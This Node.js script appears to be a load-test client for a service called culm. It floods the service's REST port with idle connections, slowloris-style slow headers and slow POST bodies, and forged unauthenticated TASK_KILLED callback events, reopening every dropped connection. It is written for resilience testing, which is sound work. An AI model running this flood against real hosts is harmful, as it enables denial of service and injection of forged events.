#!/usr/bin/env node
/**
 * One attacker against culm's REST port, run as its own process (so its sockets and CPU are not the
 * measuring test's): `node flood-client.mjs '{"port":8000,"idle":10000,"slow":200,"slowHeaders":200,"posts":4}'`.
 * - idle: connections that never send a byte;
 * - slowHeaders: a request head sent one header line a second (slowloris);
 * - slow: a POST head with a 1 MB Content-Length, then one body byte a second;
 * - posts: that many loops POSTing forged events to the callback URL (without its token) as fast as answered.
 * Every connection culm closes is opened again (after 20 ms): an attacker keeps trying. Prints one JSON line of
 * counters a second, and a last one on SIGTERM.
 */
import { connect } from 'node:net';
import { Agent, request } from 'node:http';

const cfg = JSON.parse(process.argv[2]);
const host = cfg.host ?? '127.0.0.1';
// At most this many connects in flight: more only fills the listen backlog, which is what the probe also needs.
const MAX_CONNECTING = cfg.maxConnecting ?? 256;
const REOPEN_MS = 20;
const c = { open: 0, opened: 0, closed: 0, errors: 0, posts: 0, postErrors: 0, statuses: {} };
let connecting = 0;
let stopping = false;
const queue = [];

const HEADS = {
  slow: 'POST /api/marathon/event_callback HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{',
  slowHeaders: 'GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n',
};

function want(kind) {
  queue.push(kind);
  pump();
}

function pump() {
  while (!stopping && connecting < MAX_CONNECTING && queue.length > 0) {
    const kind = queue.shift();
    connecting++;
    let connected = false;
    let timer;
    const s = connect({ port: cfg.port, host });
    s.once('connect', () => {
      connecting--;
      connected = true;
      c.open++;
      c.opened++;
      if (kind === 'slow') {
        s.write(HEADS.slow);
        timer = setInterval(() => s.write('1'), 1000);
      } else if (kind === 'slowHeaders') {
        s.write(HEADS.slowHeaders);
        timer = setInterval(() => s.write('X-Slow: 1\r\n'), 1000);
      }
      pump();
    });
    s.on('data', () => {});
    s.on('error', () => c.errors++);
    s.once('close', () => {
      clearInterval(timer);
      if (connected) c.open--;
      else connecting--;
      c.closed++;
      if (!stopping) setTimeout(() => want(kind), REOPEN_MS);
      pump();
    });
  }
}

for (let i = 0; i < (cfg.idle ?? 0); i++) queue.push('idle');
for (let i = 0; i < (cfg.slowHeaders ?? 0); i++) queue.push('slowHeaders');
for (let i = 0; i < (cfg.slow ?? 0); i++) queue.push('slow');
pump();

const agent = new Agent({ keepAlive: true, maxSockets: cfg.posts ?? 0 });
let n = 0;
function post() {
  if (stopping) return;
  const body = JSON.stringify({ eventType: 'status_update_event', appId: '/flood', taskId: `forged.${n++}`, taskStatus: 'TASK_KILLED', host: '127.0.0.1', ports: [1], timestamp: new Date().toISOString() });
  const req = request({ host, port: cfg.port, path: '/api/marathon/event_callback', method: 'POST', agent, headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) } }, (res) => {
    c.posts++;
    c.statuses[res.statusCode] = (c.statuses[res.statusCode] ?? 0) + 1;
    res.resume();
    res.on('end', post);
  });
  req.on('error', () => {
    c.postErrors++;
    setTimeout(post, REOPEN_MS);
  });
  req.end(body);
}
for (let i = 0; i < (cfg.posts ?? 0); i++) post();

const report = () => process.stdout.write(`${JSON.stringify({ ...c, connecting, queued: queue.length })}\n`);
const every = setInterval(report, 1000);
process.on('SIGTERM', () => {
  stopping = true;
  clearInterval(every);
  report();
  process.exit(0);
});
